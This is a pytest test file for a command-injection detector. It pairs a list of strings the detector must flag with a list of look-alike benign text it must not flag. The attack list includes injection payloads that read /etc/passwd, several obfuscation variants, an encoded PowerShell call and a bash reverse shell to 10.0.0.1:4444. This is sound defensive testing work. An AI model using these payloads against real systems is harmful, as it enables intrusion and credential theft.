"""The shell command-injection detector: the constructs it must find, the text it must leave."""

from __future__ import annotations

import pytest

from bastion.validation.injection.command import looks_like_command_injection

ATTACKS = [
    "; cat /etc/passwd",
    "127.0.0.1; id",
    "127.0.0.1|whoami",
    "report.txt && ls -la /",
    "1 || ping -c 10 127.0.0.1 ||",
    "1;sleep 5#",
    "$(sleep 5)",
    "x$(cat /etc/passwd)",
    "`id`",
    "report.txt`uname -a`",
    ";cat${IFS}/etc/passwd",
    ";{cat,/etc/passwd}",
    ";w'h'o'am'i",
    ";who$@ami",
    "127.0.0.1\nid",
    "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "| powershell -enc SQBFAFgA",
    "&& systeminfo",
    "; /usr/bin/id",
    "x;echo hi",
]

BENIGN = [
    "Tom & Jerry",
    "AT&T",
    "Q&A; ping me later",
    "I like dogs; cat food too",
    "results; sleep 8 hours",
    "run `ls -la` to list files",
    "```bash\npip install bastion\nbastion serve\n```",
    "| id | name |\n|----|------|\n| 1 | Ann |",
    "$(document).ready(function () {})",
    "a=1&b=2&id=3",
    "Hello\nid like that",
    "color: red; background: blue",
    "./configure && make && make install",
    "O'Brien",
    "$5 (five dollars)",
    "Pros: fast; cons: expensive",
    "for (i = 0; i < n; i++) { total += i; }",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_command_injection_is_found(value: str) -> None:
    assert looks_like_command_injection(value)


@pytest.mark.parametrize("value", BENIGN)
def test_ordinary_text_is_not_taken_for_a_command(value: str) -> None:
    assert not looks_like_command_injection(value)
